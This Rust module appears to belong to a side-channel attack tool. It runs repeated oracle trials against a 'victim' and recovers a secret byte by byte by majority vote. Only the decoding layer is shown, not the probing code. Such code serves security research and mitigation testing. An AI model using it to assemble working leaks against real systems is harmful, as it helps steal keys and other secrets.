use crate::{ByteOracle, ChannelFatalError, VictimTrigger, SLOT_COUNT};
use std::fmt;

/// Per-value vote counts for one secret position.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VoteHistogram {
    counts: [u32; SLOT_COUNT],
}

impl VoteHistogram {
    pub fn new() -> Self {
        VoteHistogram {
            counts: [0; SLOT_COUNT],
        }
    }

    pub fn record(&mut self, slot: u8) {
        self.counts[slot as usize] += 1;
    }

    pub fn count(&self, slot: u8) -> u32 {
        self.counts[slot as usize]
    }

    pub fn total(&self) -> u32 {
        self.counts.iter().sum()
    }

    pub fn reset(&mut self) {
        self.counts = [0; SLOT_COUNT];
    }

    /// Value with the most votes and its count.
    ///
    /// Only a strictly greater count replaces the current best, so the lowest value
    /// wins ties, and an empty histogram yields `(0, 0)`.
    pub fn majority(&self) -> (u8, u32) {
        let mut best = 0u8;
        let mut best_count = 0;
        for (value, &count) in self.counts.iter().enumerate() {
            if count > best_count {
                best_count = count;
                best = value as u8;
            }
        }
        (best, best_count)
    }
}

impl Default for VoteHistogram {
    fn default() -> Self {
        Self::new()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ByteVote {
    pub position: usize,
    pub value: u8,
    pub votes: u32,
    pub trials: u32,
}

impl ByteVote {
    /// Share of trials that agreed with `value`, 0 when no trial ran.
    pub fn agreement(&self) -> f32 {
        if self.trials == 0 {
            0.0
        } else {
            self.votes as f32 / self.trials as f32
        }
    }
}

/// Bytes recovered so far, in position order.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct RecoveredSecret {
    bytes: Vec<u8>,
    votes: Vec<ByteVote>,
}

impl RecoveredSecret {
    pub fn with_capacity(length: usize) -> Self {
        RecoveredSecret {
            bytes: Vec::with_capacity(length),
            votes: Vec::with_capacity(length),
        }
    }

    pub fn push(&mut self, vote: ByteVote) {
        self.bytes.push(vote.value);
        self.votes.push(vote);
    }

    pub fn as_bytes(&self) -> &[u8] {
        &self.bytes
    }

    pub fn votes(&self) -> &[ByteVote] {
        &self.votes
    }

    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    /// Text up to the first NUL byte, invalid UTF-8 replaced.
    pub fn display_string(&self) -> String {
        let end = self
            .bytes
            .iter()
            .position(|&b| b == 0)
            .unwrap_or(self.bytes.len());
        String::from_utf8_lossy(&self.bytes[..end]).into_owned()
    }
}

impl fmt::Display for RecoveredSecret {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.display_string())
    }
}

/// Majority vote over `trials` runs of the oracle for one position.
pub fn recover_byte<O: ByteOracle + ?Sized>(
    oracle: &mut O,
    victim: &mut dyn VictimTrigger,
    position: usize,
    trials: u32,
) -> Result<ByteVote, ChannelFatalError> {
    let mut histogram = VoteHistogram::new();
    for _ in 0..trials {
        let slot = oracle.run_trial(victim, position)?;
        histogram.record(slot);
    }
    let (value, votes) = histogram.majority();
    Ok(ByteVote {
        position,
        value,
        votes,
        trials,
    })
}

/// Recovers `length` bytes starting at `start`, one position after the other.
pub fn recover_secret<O: ByteOracle + ?Sized>(
    oracle: &mut O,
    victim: &mut dyn VictimTrigger,
    start: usize,
    length: usize,
    trials: u32,
) -> Result<RecoveredSecret, ChannelFatalError> {
    let end = start
        .checked_add(length)
        .ok_or(ChannelFatalError::PositionOverflow { start, length })?;
    let mut secret = RecoveredSecret::with_capacity(length);
    for position in start..end {
        let vote = recover_byte(oracle, victim, position, trials)?;
        log::debug!(
            "position {}: {:#04x} {:?} ({}/{} votes)",
            position,
            vote.value,
            vote.value as char,
            vote.votes,
            vote.trials
        );
        secret.push(vote);
    }
    Ok(secret)
}
